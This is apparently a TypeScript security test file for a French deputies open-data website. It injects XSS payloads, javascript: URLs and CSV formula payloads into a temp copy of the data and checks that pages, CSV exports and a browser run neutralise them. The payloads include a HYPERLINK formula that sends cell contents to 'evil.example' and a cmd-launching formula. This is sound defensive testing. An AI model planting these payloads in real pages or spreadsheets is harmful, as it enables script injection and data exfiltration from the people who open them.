// Hostile input from a derived copy of the real AMO40 referential: a few deputies in office get
// XSS payloads as first name, last name and profession, CSV formula payloads, and
// `javascript:` URLs as website and HATVP page. The copy is built inside the test in a temp
// folder (never committed), crawled by the real crawler from a loopback mirror, then the
// pages are read as text and in Chromium (no dialog, no injected element) and the exports
// checked (every cell neutralised). Skipped with a message when ../shared/fixtures is absent.
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { strToU8, unzipSync, zipSync } from 'fflate';
import Papa from 'papaparse';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AMO40_MIRROR_PATH } from '../helpers/an-zip.ts';
import { SHARED_FIXTURES } from '../helpers/paths.ts';
import { launchChromium } from './browser.ts';
import { startSite, writeMirrorFile, type Site } from './site.ts';

const REAL_ZIP = path.join(SHARED_FIXTURES, 'mirror', AMO40_MIRROR_PATH);
const present = existsSync(REAL_ZIP);
if (!present) {
  console.warn(
    `\n[hostile] Hostile-input suite SKIPPED: ${REAL_ZIP} not found (the real open-data ` +
      `fixtures are expected in ../shared/fixtures, next to the project).\n`,
  );
}

const XSS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</title><script>alert(1)</script>',
];
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1;"clic")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
];
const PAYLOADS = [...XSS, ...FORMULAS];
const JS_URL = 'javascript:alert(1)';

type Json = Record<string, any>;
const list = (v: unknown): any[] => (v == null ? [] : Array.isArray(v) ? v : [v]);

/** In office: an open ASSEMBLEE mandate of the 17th legislature. */
const inOffice = (acteur: Json) =>
  list(acteur.mandats?.mandat).some(
    (m) => m.typeOrgane === 'ASSEMBLEE' && m.legislature === '17' && !m.dateFin,
  );

/** The uids given hostile values, each with the payloads it carries. */
const hostile = new Map<string, { prenom: string; nom: string; profession: string }>();

/** The real archive with PAYLOADS.length deputies in office rewritten. */
function hostileReferential(): Uint8Array {
  const files = unzipSync(readFileSync(REAL_ZIP));
  const names = Object.keys(files)
    .filter((n) => n.startsWith('acteur/'))
    .sort();
  for (const name of names) {
    if (hostile.size === PAYLOADS.length) break;
    const json = JSON.parse(new TextDecoder().decode(files[name]!)) as { acteur: Json };
    const a = json.acteur;
    if (!inOffice(a)) continue;
    const i = hostile.size;
    const values = {
      prenom: PAYLOADS[i]!,
      nom: PAYLOADS[(i + 1) % PAYLOADS.length]!,
      profession: PAYLOADS[(i + 2) % PAYLOADS.length]!,
    };
    a.etatCivil.ident.prenom = values.prenom;
    a.etatCivil.ident.nom = values.nom;
    a.profession = { ...(a.profession ?? {}), libelleCourant: values.profession };
    a.uri_hatvp = JS_URL;
    a.adresses = {
      adresse: [
        ...list(a.adresses?.adresse),
        {
          '@xsi:type': 'AdresseSiteWeb_Type',
          uid: `ADX${i}`,
          type: '22',
          typeLibelle: 'Site internet',
          poids: null,
          adresseDeRattachement: null,
          valElec: JS_URL,
        },
        {
          '@xsi:type': 'AdresseMail_Type',
          uid: `ADY${i}`,
          type: '15',
          typeLibelle: 'Mèl',
          poids: null,
          adresseDeRattachement: null,
          valElec: `"><script>alert(1)</script>@example.fr`,
        },
      ],
    };
    hostile.set(typeof a.uid === 'string' ? a.uid : a.uid['#text'], values);
    files[name] = strToU8(JSON.stringify(json));
  }
  return zipSync(files);
}

/** Raw markup that must never reach a page unescaped. */
const RAW_MARKUP = /<script>alert|<img src=x|<svg onload|<\/title><script|href="javascript:/i;

describe.skipIf(!present)('hostile input from a derived copy of the real referential', () => {
  let site: Site;
  let browser: Browser;

  beforeAll(async () => {
    [site, browser] = await Promise.all([
      startSite((root) => writeMirrorFile(root, AMO40_MIRROR_PATH, hostileReferential()), ['an']),
      launchChromium(),
    ]);
    expect(site.crawls.map((c) => [c.source, c.status])).toEqual([['an', 'ok']]);
    expect(hostile.size).toBe(PAYLOADS.length);
  });
  afterAll(async () => {
    await browser?.close();
    await site?.close();
  });

  const get = async (path: string) => {
    const res = await fetch(site.url + path);
    expect(res.status, path).toBe(200);
    return res.text();
  };

  const pages = () => [
    '/',
    '/deputes',
    '/deputes?tri=profession',
    `/deputes?nom=${encodeURIComponent('script')}`,
    `/deputes?profession=${encodeURIComponent('<script>')}`,
    `/recherche?q=${encodeURIComponent('alert')}`,
    ...[...hostile.keys()].flatMap((uid) => [`/deputes/${uid}`]),
  ];

  it('stores the payloads as text', async () => {
    const rows = await site.db
      .selectFrom('acteur')
      .select(['uid', 'first_name', 'last_name'])
      .where('uid', 'in', [...hostile.keys()])
      .execute();
    expect(rows.map((r) => [r.uid, r.first_name, r.last_name]).sort()).toEqual(
      [...hostile].map(([uid, v]) => [uid, v.prenom, v.nom]).sort(),
    );
  });

  it('escapes every payload in the HTML and links no javascript: URL', async () => {
    for (const path of pages()) {
      const html = await get(path);
      expect(RAW_MARKUP.exec(html)?.[0] ?? null, path).toBeNull();
    }
    for (const uid of hostile.keys()) {
      const html = await get(`/deputes/${uid}`);
      expect(html).toContain('&lt;');
      expect(html).not.toContain('javascript:alert(1)"');
    }
  });

  it('neutralises formula payloads in every CSV cell, Excel flavour too', async () => {
    for (const path of ['/deputes.csv', '/deputes.csv?excel=1', '/deputes.csv?tri=profession']) {
      const text = (await get(path)).replace(/^\uFEFF/, '');
      const { data, errors } = Papa.parse<string[]>(text.trim(), {
        delimiter: path.includes('excel') ? ';' : ',',
      });
      expect(errors, path).toEqual([]);
      const hostileRows = data.filter((row) => hostile.has(row[0]!));
      expect(hostileRows.length, path).toBe(hostile.size);
      for (const row of data)
        for (const cell of row) expect(cell, path).not.toMatch(/^[=+\-@\t\r]/);
      // The payloads are kept, behind a quote.
      const cells = hostileRows.flat();
      for (const f of FORMULAS) expect(cells, path).toContain(`'${f}`);
    }
  });

  it('keeps the payloads as plain strings in JSON', async () => {
    const [uid, values] = [...hostile][0]!;
    const body = (await (await fetch(`${site.url}/deputes/${uid}.json`)).json()) as Json;
    expect(JSON.stringify(body)).toContain(JSON.stringify(values.prenom).slice(1, -1));
  });

  it('runs no script in the browser: no dialog, no injected element', async () => {
    const context = await browser.newContext();
    context.setDefaultTimeout(10_000);
    const page = await context.newPage();
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(`${page.url()}: ${d.message()}`);
      void d.dismiss();
    });
    for (const path of pages()) {
      await page.goto(site.url + path);
      const injected = await page.evaluate(
        () =>
          document.querySelectorAll('img[src="x"], svg[onload], [onerror], a[href^="javascript:"]')
            .length,
      );
      expect(injected, path).toBe(0);
    }
    // The search box's live suggestions render the names through htmx too.
    await page.goto(site.url);
    await page
      .getByRole('searchbox', { name: /Code postal/ })
      .pressSequentially('alert', { delay: 10 });
    await page.waitForTimeout(800);
    expect(await page.locator('#suggestions img[src="x"], #suggestions script').count()).toBe(0);
    expect(dialogs).toEqual([]);
    await context.close();
  });
});
